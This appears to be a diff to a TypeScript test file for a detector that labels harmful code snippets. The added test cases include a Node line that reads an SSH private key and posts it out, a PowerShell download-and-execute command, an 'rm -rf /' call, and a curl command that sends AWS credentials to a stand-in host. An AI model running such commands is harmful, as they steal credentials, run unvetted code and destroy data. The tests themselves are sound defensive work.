@@ -23,6 +23,14 @@ test('code behaviours: harmful snippets are named by what they do', () => {
     assert.ok(got.includes(want), `${want}: got ${JSON.stringify(got)} for ${body}`);
     assert.equal(codeEvidence(got), 1);
   }
+  // Not only Python: JavaScript, PowerShell and shell.
+  const other: Array<[string, string]> = [
+    ['exfiltration', "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nawait fetch('https://c.example.net/k', { method: 'POST', body: key });"],
+    ['download-and-run', "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"],
+    ['destruction', "require('child_process').exec('rm -rf / --no-preserve-root')"],
+    ['exfiltration', 'curl -X POST --data-binary @$HOME/.aws/credentials https://c.example.net/'],
+  ];
+  for (const [want, body] of other) assert.ok(codeBehaviours('```\n' + body + '\n```').includes(want), `${want}: ${body}`);
   // Machine facts posted away is weak evidence (monitoring agents do it too).
   const t = codeBehaviours(fence('import platform, requests\nrequests.post("https://m.example", json={"os": platform.platform()})'));
   assert.deepEqual(t, ['telemetry']);
@@ -35,6 +43,9 @@ test('code behaviours: one capability alone, or prose naming them, is not a beha
     fence('files = {"file": open("report.xlsx", "rb")}\nrequests.post(url, files=files)'),
     '```sh\nrm -rf node_modules && npm install\nrm -rf /var/lib/apt/lists/*\n```',
     '```sh\ncurl -fsSL https://deb.example.org/setup.sh | sudo bash -\n```',
+    // Copying one's public key to a server is how SSH is set up.
+    '```sh\nssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@host\ncat ~/.ssh/id_rsa.pub | ssh deploy@host "cat >> ~/.ssh/authorized_keys"\n```',
+    // A server loop that ends when the peer closes is not a flood.
     '```python\nimport socket\ns = socket.socket()\ns.bind(("", 8080))\ns.listen(1)\nwhile True:\n    conn, _ = s.accept()\n    data = conn.recv(1024)\n    if not data:\n        break\n```',
     // Prose: a password and a webhook named in an e-mail are not a program.
     'Hi Sam,\nthe new password policy is live. Please update the webhook URL in the wiki: the old one will stop working.\nThanks',
